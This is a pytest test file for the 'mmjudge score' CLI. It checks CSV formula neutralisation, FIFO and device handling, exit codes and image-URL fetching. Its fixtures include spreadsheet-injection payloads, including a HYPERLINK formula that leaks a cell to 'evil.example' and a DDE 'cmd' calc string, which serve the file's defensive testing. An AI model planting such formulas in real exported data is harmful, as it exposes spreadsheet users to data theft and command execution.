"""What `mmjudge score` reads and writes, tried as a hostile or careless user would (issue 29, points 2, 3, 7):

- every CSV cell the CLI and the engine write is neutralised against spreadsheet formulas (OWASP), checked by
  reading the files back with the `csv` module; the meta-evaluation reads its own score CSVs back exactly;
- a FIFO (a real `mkfifo`) or a device as an image is that item's error, never a hang, and as `--input` one
  correct line (the subprocess runs carry a timeout, so a regression fails instead of hanging the suite);
- a run with items that failed for their input exits 4 with every row written; an http(s) image URL is
  fetched (a real local HTTP server) or is one line saying URLs need network access; `--output` says where
  the rows go while the run lasts.

The judge is the hash-based `dummy` and the metric ROUGE-L: plumbing, not quality.
"""

from __future__ import annotations

import csv
import http.server
import io
import json
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path
from types import SimpleNamespace

import pytest
from PIL import Image

from mmjudge.cli import main
from repo_paths import ROOT

D = ["--judge", "dummy", "--no-cache"]
FORMULAS = ["=1+1", "+cmd", "-5", "@SUM(A1)", "\tTAB", "\rCR", '=HYPERLINK("http://evil.example/?x="&A2,"x")']
ENV = {
    **os.environ,
    "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")]),
    "HF_HUB_OFFLINE": "1",
    "TRANSFORMERS_OFFLINE": "1",
}


def _cli(args: list[str], timeout: float = 120) -> subprocess.CompletedProcess:
    """The CLI in its own process, killed after ``timeout`` s: a hang fails the test instead of the suite."""
    return subprocess.run(
        [sys.executable, "-m", "mmjudge.cli", *args], capture_output=True, text=True, env=ENV, timeout=timeout
    )


def _png(path: Path) -> str:
    Image.new("RGB", (32, 24), (200, 40, 40)).save(path)
    return str(path)


def _jsonl(path: Path, items: list[dict]) -> str:
    path.write_text("".join(json.dumps(it) + "\n" for it in items))
    return str(path)


# ------------------------------------------------------------------------------------------ CSV cells
def _formula_items() -> list[dict]:
    return [{"id": f, "text": f + " a dog runs", "references": ["a dog runs"]} for f in FORMULAS]


def _assert_neutralised(rows: list[dict]) -> None:
    assert [r["id"] for r in rows] == ["'" + f for f in FORMULAS]
    assert [r["text"] for r in rows] == ["'" + f + " a dog runs" for f in FORMULAS]
    assert all(float(r["rouge_l"]) > 0 for r in rows)  # numbers stay numbers (no quote on a float)


def test_csv_output_file_neutralises_formula_cells_and_the_metaeval_reads_them_back(tmp_path, capsys):
    from mmjudge.metaeval.scores import read_scores

    path = _jsonl(tmp_path / "items.jsonl", _formula_items())
    out = tmp_path / "scores.csv"
    assert main(["score", "--metric", "baselines", "--config", "rouge_l", "--input", path, "--output", str(out)]) == 0
    with open(out, newline="", encoding="utf-8") as f:
        _assert_neutralised(list(csv.DictReader(f)))
    # The meta-evaluation reads its own CSV back to the ids as they were (they join with the judgments).
    assert sorted(read_scores(out)) == sorted(FORMULAS)


def test_csv_on_stdout_and_report_to_csv_neutralise_too(tmp_path, capsys):
    import mmjudge
    from mmjudge.report import Report

    path = _jsonl(tmp_path / "items.jsonl", _formula_items())
    assert main(["score", "--metric", "baselines", "--config", "rouge_l", "--input", path, "--format", "csv"]) == 0
    _assert_neutralised(list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline=""))))
    report = Report.from_items(mmjudge.load("baselines", "rouge_l"), _formula_items(), keep=("text",))
    _assert_neutralised(list(csv.DictReader(io.StringIO(report.to_csv(), newline=""))))
    assert report.rows[0]["id"] == FORMULAS[0]  # JSON and the rows in memory keep the text as given
    assert json.loads(report.to_jsonl().splitlines()[0])["id"] == FORMULAS[0]


def test_metaeval_tables_neutralise_names():
    from mmjudge.metaeval.tables import Cell, Table, records_csv

    table = Table("t", "T", [("", "-ic")], {"=cmd|' /C calc'!A0": [Cell(-12.5, -20.0, -5.0, "↑")]})
    rows = list(csv.reader(io.StringIO(table.csv(), newline="")))
    assert rows[0][:2] == ["metric", "'-ic"] and rows[1][:3] == ["'=cmd|' /C calc'!A0", "-12.5000", "-20.0000"]
    record = {"dataset": "d", "metric": "@x", "value": -0.5, "task": "+t", "n_rows": 3}
    [row] = list(csv.DictReader(io.StringIO(records_csv([SimpleNamespace(records=[record])]), newline="")))
    assert (row["metric"], row["task"], row["value"], row["n_rows"]) == ("'@x", "'+t", "-0.5000", "3")


# ------------------------------------------------------------------------------------- FIFOs and devices
@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs mkfifo")
def test_a_fifo_image_is_the_items_error_never_a_hang(tmp_path):
    fifo = tmp_path / "pipe.png"
    os.mkfifo(fifo)
    good = _png(tmp_path / "good.png")
    path = _jsonl(
        tmp_path / "items.jsonl",
        [
            {"id": "a", "text": "A red square.", "image": good},
            {"id": "b", "text": "A pipe.", "image": str(fifo)},
            {"id": "c", "text": "A device.", "image": "/dev/zero"},
        ],
    )
    out = tmp_path / "s.jsonl"
    run = _cli(["score", "--input", path, "--output", str(out), *D])
    assert run.returncode == 4, run.stderr[-2000:]
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    assert [r["id"] for r in rows] == ["a", "b", "c"] and rows[0]["overall"] is not None and "error" not in rows[0]
    assert "is a named pipe (FIFO), not a regular file; only regular image files are read" in rows[1]["error"]
    assert "'/dev/zero' is a character device, not a regular file" in rows[2]["error"]
    assert "2 of 3 items could not be scored" in run.stdout

    typed = _cli(["score", "--text", "A pipe.", "--image", str(fifo), *D])  # typed items stop at their mistake
    assert typed.returncode == 2 and typed.stdout == ""
    assert typed.stderr.strip().splitlines() == [
        f"mmjudge score: error: images[0]: {str(fifo)!r} is a named pipe (FIFO), not a regular file; only regular "
        "image files are read."
    ]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs mkfifo")
def test_a_fifo_as_input_is_one_correct_line(tmp_path):
    fifo = tmp_path / "items.jsonl"
    os.mkfifo(fifo)
    run = _cli(["score", "--input", str(fifo), *D])
    assert run.returncode == 2 and "no such file" not in run.stderr
    assert run.stderr.strip().splitlines() == [
        f"mmjudge score: error: --input {fifo}: is a named pipe (FIFO), not a regular file; an input is read more "
        "than once (counted, split between processes, skipped on resume), so save it to a file first "
        "(e.g. cat PIPE > items.jsonl)."
    ]


# --------------------------------------------------------------------------- exit status and where rows go
def test_failed_items_exit_4_with_every_row_written_and_the_output_says_where_rows_go(tmp_path, capsys):
    good = _png(tmp_path / "good.png")
    items = [{"id": "a", "text": "A red square.", "image": good}, {"id": "b", "text": "Gone.", "image": "gone.png"}]
    path = _jsonl(tmp_path / "items.jsonl", items)
    out = tmp_path / "s.csv"
    assert main(["score", "--input", path, "--output", str(out), *D]) == 4
    err = capsys.readouterr().err
    assert f"rows go to {out}.part-0-of-1.jsonl as they finish; {out} is written when the run completes" in err
    with open(out, newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["id"] for r in rows] == ["a", "b"] and "image file not found" in rows[1]["error"]
    # `&&` chains notice: the shell sees the status too
    assert _cli(["score", "--input", path, "--output", str(tmp_path / "t.jsonl"), *D]).returncode == 4
    # every item scored: 0
    assert main(["score", "--input", _jsonl(tmp_path / "ok.jsonl", items[:1]), *D, "--quiet"]) == 0


def test_an_interrupted_run_says_where_its_rows_are(tmp_path):
    from mmjudge.commands.score import interrupted_line
    from mmjudge.stream.outputs import PartFile

    out = str(tmp_path / "s.jsonl")
    assert interrupted_line(out) == f"interrupted before any row was written to {out}."
    PartFile(out, 0, 1, "sig").close()
    assert interrupted_line(out) == (
        f"interrupted: the rows written so far are in {out}.part-0-of-1.jsonl; run the same command again to resume."
    )


# -------------------------------------------------------------------------------------------- image URLs
@pytest.fixture
def http_server(tmp_path):
    _png(tmp_path / "red.png")
    handler = lambda *a, **k: http.server.SimpleHTTPRequestHandler(*a, directory=str(tmp_path), **k)  # noqa: E731
    http.server.SimpleHTTPRequestHandler.log_message = lambda *a: None
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def _closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_an_image_url_is_fetched_or_is_one_line_never_a_mangled_path(tmp_path, http_server, capsys):
    from mmjudge.images import fetch_url, load_image

    assert load_image(f"{http_server}/red.png").getpixel((0, 0)) == (200, 40, 40)
    with pytest.raises(ValueError, match=r"answered HTTP 404"):
        load_image(f"{http_server}/missing.png", where="images[0]")
    with pytest.raises(ValueError, match=r"is larger than 10 bytes"):
        fetch_url(f"{http_server}/red.png", max_bytes=10)
    dead = f"http://127.0.0.1:{_closed_port()}/a.png"
    items = [
        {"id": "u", "text": "A red square.", "image": f"{http_server}/red.png"},
        {"id": "d", "text": "x", "image": dead},
    ]
    path = _jsonl(tmp_path / "items.jsonl", items)
    out = tmp_path / "s.jsonl"
    assert main(["score", "--input", path, "--output", str(out), *D, "--quiet"]) == 4
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    assert rows[0]["overall"] is not None and "error" not in rows[0]
    assert f"cannot fetch {dead!r}" in rows[1]["error"] and "image URLs need network access" in rows[1]["error"]
    assert "http:/127" not in rows[1]["error"] and "file not found" not in rows[1]["error"]
    assert main(["score", "--text", "x", "--image", "ftp://host/a.png", *D]) == 2
    assert "only http(s) image URLs are fetched" in capsys.readouterr().err
